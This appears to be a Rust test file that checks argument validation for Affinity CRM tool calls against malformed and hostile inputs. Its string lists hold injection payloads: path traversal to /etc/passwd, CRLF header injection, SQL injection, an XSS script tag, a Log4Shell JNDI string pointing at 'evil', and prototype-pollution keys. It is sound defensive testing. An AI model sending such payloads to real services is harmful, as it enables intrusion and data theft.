//! Arguments that do not fit their tool, or mean to be more than a value.

use crate::case::{Case, Want};

const GET: &str = "get_single_affinity_person_by_id";
const LIST: &str = "list_all_affinity_persons";
const NOTE: &str = "create_a_affinity_note";
const ENTRY: &str = "get_single_affinity_list_entry_by_id";
const UPLOAD: &str = "affinity_files_upload";

pub(crate) fn in_the_path() -> Vec<Case> {
    let digits = "9".repeat(400);
    let values = [
        "null",
        "true",
        "1.5",
        "-1",
        "1e400",
        "-9223372036854775809",
        "[1]",
        "{\"id\":1}",
        r#""""#,
        r#"" ""#,
        r#""abc""#,
        r#"".""#,
        r#""..""#,
        r#""../1""#,
        r#""1/..""#,
        r#""1/../../fields""#,
        r#""1/2""#,
        r#""/1""#,
        r#""1/""#,
        r#""1\\2""#,
        r#""%2e%2e""#,
        r#""1%2f2""#,
        r#""1%00""#,
        r#""1?term=x""#,
        r#""1#x""#,
        r#""1;x""#,
        r#""1&x=1""#,
        r#""@evil.example""#,
        r#""0x10""#,
        r#""+1""#,
        r#""-1""#,
        r#""1.5""#,
        r#""1\u0000""#,
        r#""1\n""#,
        r#""1\r\nX-Evil: 1""#,
        r#""\uff11""#,
        r#""\u0661""#,
        r#""\ud800""#,
        r#""NaN""#,
        r#""null""#,
        r#""[1]""#,
        &format!("\"{digits}\""),
        &digits,
    ];
    let mut cases: Vec<Case> =
        values.iter().map(|value| Case::call(GET, &format!(r#"{{"id":{value}}}"#), Want::ToolError)).collect();
    cases.extend(
        [r#"{"list_id":1}"#, r#"{"id":1}"#, r#"{"list_id":"..","id":1}"#, r#"{"list_id":1,"id":"../../1"}"#]
            .map(|arguments| Case::call(ENTRY, arguments, Want::ToolError)),
    );
    cases.extend(
        ["7", "\"7\"", "9007199254740993"].map(|value| Case::call(GET, &format!(r#"{{"id":{value}}}"#), Want::Fine)),
    );
    cases
}

pub(crate) fn names() -> Vec<Case> {
    let long = format!(r#"{{"id":1,"{}":1}}"#, "a".repeat(10_000));
    [
        "{}",
        "[]",
        "[1]",
        "7",
        "\"id\"",
        "true",
        "null",
        r#"{"ID":1}"#,
        r#"{"id ":1}"#,
        r#"{"id":1,"":1}"#,
        r#"{"id":1,"__proto__":{"x":1}}"#,
        r#"{"id":1,"constructor":1}"#,
        r#"{"id":1,"Authorization":"Bearer x"}"#,
        r#"{"id":1,"X-Evil: 1\r\nX-Evil2":"1"}"#,
        r#"{"id":1,"person_id":2}"#,
        r#"{"id":1,"page_token":"x"}"#,
        r#"{"id":1,"http":"DELETE /persons/{id}"}"#,
        r#"{"id":1,"{id}":2}"#,
        r#"{"id":1,"\ud800":2}"#,
        r#"{"id":1,"id":2}"#,
        r#"{"id":1,"\u0069d":"../2"}"#,
        &long,
    ]
    .map(|arguments| Case::call(GET, arguments, Want::ToolError))
    .into()
}

pub(crate) fn values() -> Vec<Case> {
    let deep = format!(r#"{{"query":{}{}}}"#, "[".repeat(20_000), "]".repeat(20_000));
    let lists = [
        &deep,
        r#"{"limit":0}"#,
        r#"{"limit":-1}"#,
        r#"{"limit":1000000000}"#,
        r#"{"limit":18446744073709551616}"#,
        r#"{"limit":1e400}"#,
        r#"{"limit":"many"}"#,
        r#"{"limit":[]}"#,
        r#"{"query":7.5e1000}"#,
        r#"{"query":{}}"#,
        r#"{"query":[]}"#,
        r#"{"query":"\ud800"}"#,
        r#"{"next_cursor":"not a cursor"}"#,
        r#"{"next_cursor":"../../etc/passwd"}"#,
        r#"{"next_cursor":7}"#,
        r#"{"next_cursor":{}}"#,
        r#"{"next_cursor":"eyJ0IjoieCJ9"}"#,
        r#"{"with_opportunities":"maybe"}"#,
        r#"{"with_opportunities":2}"#,
    ];
    let notes = [
        r#"{"content":7,"person_ids":{}}"#,
        r#"{"content":"x","person_ids":["../1"]}"#,
        r#"{"content":"x","person_ids":"[1,2"}"#,
        r#"{"content":"x","person_ids":[[1]]}"#,
        r#"{"content":"x","person_ids":[null]}"#,
        r#"{"content":"x","person_ids":[1.5]}"#,
        r#"{"content":"x","person_ids":[1],"type":99}"#,
        r#"{"content":"x"}"#,
    ];
    let uploads = [
        r#"{"person_id":1,"file_name":"a.txt","content":"not base64!","media_type":"text/plain"}"#,
        r#"{"person_id":1,"file_name":"../../a.txt","content":"YQ==","media_type":"text/plain"}"#,
        r#"{"person_id":1,"file_name":"a\".txt","content":"YQ==","media_type":"text/plain"}"#,
        r#"{"person_id":1,"file_name":"a\r\nX-Evil: 1.txt","content":"YQ==","media_type":"text/plain"}"#,
        r#"{"person_id":1,"file_name":"a\u0000.txt","content":"YQ==","media_type":"text/plain"}"#,
        r#"{"person_id":1,"file_name":"","content":"YQ==","media_type":"text/plain"}"#,
        r#"{"person_id":1,"file_name":"a.txt","content":"YQ==","media_type":"text/plain\r\nX-Evil: 1"}"#,
        r#"{"person_id":1,"file_name":"a.txt","content":"","media_type":"text/plain"}"#,
    ];
    let lists = lists.into_iter().map(|arguments| Case::call(LIST, arguments, Want::ToolError));
    let notes = notes.into_iter().map(|arguments| Case::call(NOTE, arguments, Want::ToolError));
    let uploads = uploads.into_iter().map(|arguments| Case::call(UPLOAD, arguments, Want::ToolError));
    lists.chain(notes).chain(uploads).collect()
}

pub(crate) fn text() -> Vec<Case> {
    let long = "x".repeat(100_000);
    let texts = [
        "",
        "&page_size=1&evil=1",
        "?evil=1#x",
        "\\r\\nX-Evil: 1",
        "a\\u0000b",
        "%00%0d%0aX-Evil:1",
        "\\ud83d\\ude00",
        "\\u202e\\ufeff",
        "<script>alert(1)</script>",
        "' or 1=1 --",
        "${jndi:ldap://evil}",
        "../../../etc/passwd",
    ];
    let mut cases: Vec<Case> = Vec::new();
    for text in texts {
        cases.push(Case::call(LIST, &format!(r#"{{"query":"{text}"}}"#), Want::Fine));
        cases.push(Case::call(NOTE, &format!(r#"{{"content":"x{text}","person_ids":[1]}}"#), Want::Fine));
    }
    cases.push(Case::call(NOTE, &format!(r#"{{"content":"{long}","person_ids":[1]}}"#), Want::Fine));
    cases
}
